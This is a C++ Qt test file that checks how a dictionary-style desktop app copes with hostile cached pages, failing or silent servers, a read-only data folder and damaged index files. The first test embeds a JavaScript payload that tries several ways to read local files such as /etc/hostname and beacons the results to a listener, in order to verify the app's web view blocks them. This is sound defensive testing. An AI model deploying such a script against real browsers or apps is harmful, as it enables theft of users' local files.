// What real networks and machines do to the program: hostile pages, broken and
// silent servers, a read-only data folder, damaged index files.
#include "app/Form1.h"
#include "cloud/BlockingHttp.h"
#include "cloud/GbkText.h"
#include "entries/DataLayout.h"
#include "shell/HtmlView.h"
#include "shell/Pages.h"
#include "tests/support/MainWindow.h"
#include "tests/support/RawHttpServer.h"
#include "tests/support/TestFiles.h"
#include "tests/support/TestMain.h"
#include "tests/support/ViewProbe.h"

#include <QFileInfo>
#include <QLineEdit>
#include <QMutex>
#include <QProcess>
#include <QPushButton>
#include <QSet>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>

using namespace qinglan;

namespace {

std::unique_ptr<MainWindow> Window(const QString& base, const QByteArray& indexBytes) {
    Config config = TestConfig(base);
    config.pictureFolderId = 2;
    auto w = std::make_unique<MainWindow>(config);
    w->WriteIndexBytes(indexBytes);
    return w;
}

QByteArray Index(const QStringList& lines) {
    QString text;
    for (const QString& line : lines)
        text += QStringLiteral("\r\n") + line;
    return ToGbk(text + QStringLiteral("\r\n"));
}

} // namespace

class TestFaults final : public QObject {
    Q_OBJECT

private slots:
    void initTestCase() {
        TransferLimits limits;
        limits.connect = std::chrono::milliseconds(2000);
        limits.stall = std::chrono::seconds(2);
        SetTransferLimits(limits);
    }

    void scriptsInEntriesCannotReadLocalFiles() {
        QTemporaryDir secrets;
        const QByteArray secret =
            QUrl::fromLocalFile(secrets.filePath(QStringLiteral("secret.txt"))).toEncoded();
        QVERIFY(WriteFile(secrets.filePath(QStringLiteral("secret.txt")), "TOPSECRET-LOCAL"));
        RecordingServer listener;
        auto w = Window(
            QStringLiteral("http://127.0.0.1:%1/items/O!").arg(UnusedPort()),
            Index({QStringLiteral("7 - 0007恶意.html"), QStringLiteral("8 - 0008恶意二.html")}));
        QVERIFY(w->form->Open());
        QVERIFY(WriteFile(w->temp.filePath(QStringLiteral("secret.txt")), "TOPSECRET-TEMP"));
        // An entry (as served, cached in the data folder) that tries every route a
        // page has to read local files. Each attempt reports once to a loopback
        // listener how it ended: "/leak/N" with what it read, or "/blocked/N".
        const QByteArray script =
            "<script>var L='" + listener.Url(QString()).toUtf8() +
            "',n=0;"
            "function attempt(start){var id=n++,done=false;function end(kind,t){if(done)return;"
            "done=true;new Image().src=L+'/'+kind+'/'+id+'?'+encodeURIComponent(t||'')}"
            "try{start(end)}catch(e){end('blocked')}}"
            "['secret.txt','" +
            secret +
            "','file:///etc/hostname','qnln1.html'].forEach(function(u){"
            "attempt(function(end){var x=new XMLHttpRequest();x.open('GET',u);"
            "x.onload=function(){end('leak',x.responseText)};"
            "x.onloadend=function(){end('blocked')};x.send()});"
            "attempt(function(end){fetch(u).then(r=>r.text()).then(function(t){end('leak',t)},"
            "function(){end('blocked')})})});"
            "['" +
            secret +
            "','secret.txt'].forEach(function(u){attempt(function(end){"
            "var f=document.createElement('iframe');f.src=u;f.onload=function(){"
            "try{end('leak',f.contentDocument.body.innerText)}catch(e){end('blocked')}};"
            "document.body.appendChild(f)})});"
            "attempt(function(end){var s=document.createElement('script');s.src='secret.txt';"
            "s.onload=function(){end('leak')};s.onerror=function(){end('blocked')};"
            "document.body.appendChild(s)});</script>";
        constexpr int attempts = 11;
        QVERIFY(WriteFile(w->Data(QStringLiteral("恶意.html")),
                          ToGbk(QStringLiteral("<p>恶意条目</p>")) + script));
        w->Query(QStringLiteral("恶意"));
        const auto ended = [&listener] {
            QSet<QString> ids;
            for (const QString& path : listener.Paths())
                if (path.startsWith(u"/leak/") || path.startsWith(u"/blocked/"))
                    ids.insert(path.section(u'/', 2, 2).section(u'?', 0, 0));
            return int(ids.size());
        };
        QTRY_COMPARE_WITH_TIMEOUT(ended(), attempts, 30000);
        for (const QString& path : listener.Paths())
            QVERIFY2(!path.startsWith(u"/leak"), qPrintable(path));
        // The page keeps its tile and its related links.
        QTRY_COMPARE_WITH_TIMEOUT(
            EvaluateInView(
                *w->form->WebBrowser1,
                QStringLiteral(
                    "(function(){var i=document.createElement('img');i.id='t';i.src='QNLNBJ1.JPG';"
                    "document.body.appendChild(i);return 'added'})()")),
            QStringLiteral("added"), 10000);
        QTRY_COMPARE_WITH_TIMEOUT(
            EvaluateInView(*w->form->WebBrowser1,
                           QStringLiteral("String(document.getElementById('t').naturalWidth)")),
            QStringLiteral("66"), 10000);
        EvaluateInView(*w->form->WebBrowser1,
                       QStringLiteral("document.getElementById('恶意二').click()"));
        QTRY_COMPARE_WITH_TIMEOUT(w->form->Text1->text(), QStringLiteral("恶意二"), 10000);
    }

    void brokenAndSilentEntryDownloads() {
        RecordingServer cloud(
            {{"/items/O!1", RawHttpServer::Response("500 Internal Server Error", "<h1>500</h1>")},
             {"/items/O!2", "HTTP/1.1 200 OK\r\nContent-Length: 5000\r\n\r\n<p>only the start"}});
        auto w =
            Window(cloud.Url(QStringLiteral("/items/O!")),
                   Index({QStringLiteral("1 - 0001错误.html"), QStringLiteral("2 - 0002截断.html"),
                          QStringLiteral("hang - 0003无声.html")}));
        QVERIFY(w->form->Open());
        for (const QString& name : {QStringLiteral("错误"), QStringLiteral("截断")}) {
            w->Query(name);
            QVERIFY(w->Page().contains(QStringLiteral("<p>网络未连接，无法查询“") + name +
                                       QStringLiteral("”的信息。</p>")));
            QVERIFY(!QFileInfo::exists(w->Data(name + QStringLiteral(".html"))));
        }
        // A server that accepts and never answers: the query gives up at the stall limit.
        w->Query(QStringLiteral("无声"));
        QVERIFY(w->Page().contains(QStringLiteral("无法查询“无声”")));
        QVERIFY(w->form->Command1->isEnabled());
    }

    void readOnlyDataFolder() {
        auto w = Window(
            QStringLiteral("http://127.0.0.1:%1/items/O!").arg(UnusedPort()),
            Index({QStringLiteral("1 - 0001甘草.html"), QStringLiteral("2 - 0002黄芪.html")}));
        QVERIFY(w->form->Open());
        WriteFile(w->Data(QStringLiteral("甘草.html")), ToGbk(QStringLiteral("<p>本地甘草</p>")));
        QProcess chattr;
        chattr.start(QStringLiteral("chattr"), {QStringLiteral("+i"), w->Data()});
        if (!chattr.waitForFinished() || chattr.exitCode() != 0)
            QSKIP("this file system cannot make the folder read-only for root");
        w->Query(QStringLiteral("甘草"));
        const QString cached = w->Page();
        w->Query(QStringLiteral("黄芪"));
        const QString missing = w->Page();
        QProcess::execute(QStringLiteral("chattr"), {QStringLiteral("-i"), w->Data()});
        QVERIFY(cached.contains(QStringLiteral("<p>本地甘草</p>")));
        QVERIFY(missing.contains(QStringLiteral("无法查询“黄芪”")));
        QCOMPARE(QDir(w->Data()).entryList(QDir::Files),
                 (QStringList{QStringLiteral("ML"), QStringLiteral("甘草.html")}));
    }

    void damagedIndexFiles_data() {
        QTest::addColumn<QByteArray>("index");
        QTest::newRow("CR only") << QByteArray("\r1 - 0001Alpha.html\r2 - 0002Beta.html\r");
        QTest::newRow("LF only") << QByteArray("\n1 - 0001Alpha.html\n2 - 0002Beta.html\n");
        QTest::newRow("invalid GBK")
            << QByteArray("\r\n1 - 0001\xff\xfe\x80.html\r\n2 - 0002Beta.html\r\n\x81");
        QTest::newRow("NUL") << QByteArray("\r\n\0\0 - \0\0\0\0\0\0\0\0\0\r\n", 18);
        QTest::newRow("empty") << QByteArray();
    }

    void damagedIndexFiles() {
        QFETCH(QByteArray, index);
        auto w = Window(OfflineItemsUrl(), index);
        QVERIFY(w->form->Open());
        w->Query(QStringLiteral("."));
        QVERIFY(w->Page().startsWith(QStringLiteral("<body style=")));
        w->Query(QStringLiteral("Beta"));
        QVERIFY(w->Page().startsWith(QStringLiteral("<body style=")));
        QVERIFY(w->form->Command1->isEnabled());
    }
};

QINGLAN_TEST_MAIN(TestFaults)
#include "test_faults.moc"
